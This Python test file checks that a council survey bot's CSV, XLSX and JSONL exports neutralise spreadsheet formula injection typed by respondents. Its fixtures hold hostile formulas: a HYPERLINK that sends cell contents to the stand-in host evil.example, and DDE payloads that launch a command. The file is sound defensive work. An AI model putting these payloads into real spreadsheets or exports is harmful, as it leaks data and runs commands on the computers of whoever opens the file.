"""Answers that a spreadsheet would run as formulas, typed by respondents through the real
webhooks, stored, and exported: neutralised in CSV, plain text cells in XLSX, numbers still
numbers, and the exact words kept in JSONL.

tests/results/test_export.py checks the export functions on hand-made responses; here the values
take the whole path (SMS, web chat, the engine's parsing, Redis) and officer-written labels that
start with ``-``/``+``/``@`` are included, since they reach the export too.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from typing import Any

import openpyxl
import pytest

from bot.results.export import FORMULA_START, export_flow
from tests.security.harness import World

FLOW = """\
id: formula-test
title: Formula test
council: Test Borough Council
contact: {phone: "0116 000 0000"}
intro: Hello from Test Borough Council. Text STOP to stop, HELP for help.
thanks: Thank you.
closes: 2030-12-31
keywords: [SUMS]
questions:
  - id: name
    type: text
    text: What should we call you?
  - id: change
    type: choice
    text: How has support changed?
    choices:
      - {id: worse, label: "-1 (worse)"}
      - {id: same, label: "0 (the same)"}
      - {id: better, label: "+1 (better)"}
    other: {label: Something else, prompt: Please tell us.}
  - id: helps
    type: multi
    text: What helps?
    choices:
      - {id: breaks, label: Short breaks}
      - {id: home, label: "@home support"}
    other: {label: Something else, prompt: What else helps?}
  - id: balance
    type: number
    text: How many pounds a week better or worse off are you?
    min: -1000
    max: 1000
  - id: comments
    type: text
    optional: true
    text: Anything else?
"""

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your results")'
DDE = "=cmd|' /C calc'!A0"
SMS_PEOPLE = {
    "+447700900471": ["SUMS", HYPERLINK, "4", "+44 7700 900471 is my number", "1 and 3",
                      "@SUM(1+1)*cmd|' /C calc'!A0", "-5", DDE],
    "+447700900472": ["SUMS", "-2+3", "1", "2", "-1000", "\t=1+1"],
    "+447700900473": ["SUMS", "@ben", "3", "3", "=2+2", "0", "\r=1+1"],
}  # fmt: skip
HOSTILE = [
    HYPERLINK,
    DDE,
    "+44 7700 900471 is my number",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@ben",
    "=2+2",
    "-1 (worse)",
    "+1 (better)",
    "=1+1",
]


@pytest.fixture
def world(world: World) -> World:
    """The security tests' world (tests/security/conftest.py) with the formula-test flow."""
    (world.settings.flows_dir / "formula-test.yaml").write_text(FLOW, encoding="utf-8")
    world.services.registry.refresh(force=True)
    assert world.services.registry.get("formula-test") is not None, world.services.registry.errors
    return world


async def answer_everything(w: World) -> None:
    for number, texts in SMS_PEOPLE.items():
        await w.say_sms(number, texts, sid=f"SM{number[-3:]}-")
    cookie = "w" * 32
    assert (await w.web("formula-test", {"start": True}, cookie=cookie)).status == 200
    steps: list[dict[str, Any]] = [
        {"text": "+1 555 0100", "question": "name"},  # the page says what it answers
        {"button": {"question": "change", "value": "better"}},
        {"button": {"question": "helps", "value": ["home", "breaks"]}},
        {"text": "-5"},
        {"text": HYPERLINK},
    ]
    for n, step in enumerate(steps):
        w.clock.advance(minutes=1)
        answer = await w.web("formula-test", {**step, "id": f"web-step-{n:04d}"}, cookie=cookie)
        assert answer.status == 200, answer


async def export(w: World, fmt: str) -> str | bytes:
    flow = w.services.registry.get("formula-test")
    assert flow is not None
    out: io.StringIO | io.BytesIO = io.BytesIO() if fmt == "xlsx" else io.StringIO(newline="")
    counts = await export_flow(w.services.store, flow, out, fmt, partial=True, now=w.clock())
    assert counts.written == 4
    return out.getvalue()


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_csv_neutralises_every_formula_and_keeps_numbers(world: World) -> None:
    await answer_everything(world)
    text = await export(world, "csv")
    assert isinstance(text, str)
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    header, data = rows[0], rows[1:]
    cells = [c for row in rows for c in row]
    dangerous = [c for c in cells if c[:1] in FORMULA_START and not is_number(c)]
    assert dangerous == []  # nothing a spreadsheet would run
    flat = set(cells)
    for value in HOSTILE:
        if value in ("=1+1",):
            continue  # typed after a tab or CR: checked below
        assert "'" + value in flat, value  # kept, behind an apostrophe
    # Typed as "\t=1+1" and "\r=1+1": whatever the engine kept, it is neutralised.
    typed = [c for c in cells if "=1+1" in c]
    assert typed
    assert all(c.startswith("'") for c in typed), typed
    assert "helps: @home support" in header  # a label inside a header: nothing to run
    balance = [row[header.index("balance")] for row in data]
    assert sorted(balance) == ["-1000", "-5", "-5", "0"]  # numbers, no apostrophe


async def test_xlsx_holds_text_cells_never_formulas(world: World) -> None:
    await answer_everything(world)
    data = await export(world, "xlsx")
    assert isinstance(data, bytes)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = z.read(name).decode("utf-8")
            assert not re.search(r"<f[\s>/]", xml), name  # no formula element anywhere
    ws = openpyxl.load_workbook(io.BytesIO(data))["Responses"]
    header = [c.value for c in ws[1]]
    values: dict[str, Any] = {}
    for row in ws.iter_rows(min_row=1):
        for cell in row:
            assert cell.data_type in ("s", "n", "b"), (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                values[cell.value] = cell
    for value in HOSTILE:
        if value == "=1+1":
            continue
        assert value in values, value  # the words as typed, no apostrophe needed
        assert values[value].data_type == "s"
    typed = [v for v in values if "=1+1" in v]
    assert typed
    assert all(values[v].data_type == "s" for v in typed)
    col = header.index("balance") + 1
    balance = [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]
    assert sorted(c.value for c in balance) == [-1000, -5, -5, 0]
    assert {c.data_type for c in balance} == {"n"}


async def test_jsonl_keeps_the_exact_words(world: World) -> None:
    """JSON is not a spreadsheet: the words are kept exactly, with no apostrophe added."""
    await answer_everything(world)
    text = await export(world, "jsonl")
    assert isinstance(text, str)
    blob = [json.loads(line) for line in text.splitlines()]
    dumped = json.dumps(blob, ensure_ascii=False)
    for value in (HYPERLINK, DDE, "-2+3", "@ben", "=2+2"):
        assert json.dumps(value, ensure_ascii=False) in dumped
    assert "'=" not in dumped
    assert "'@" not in dumped
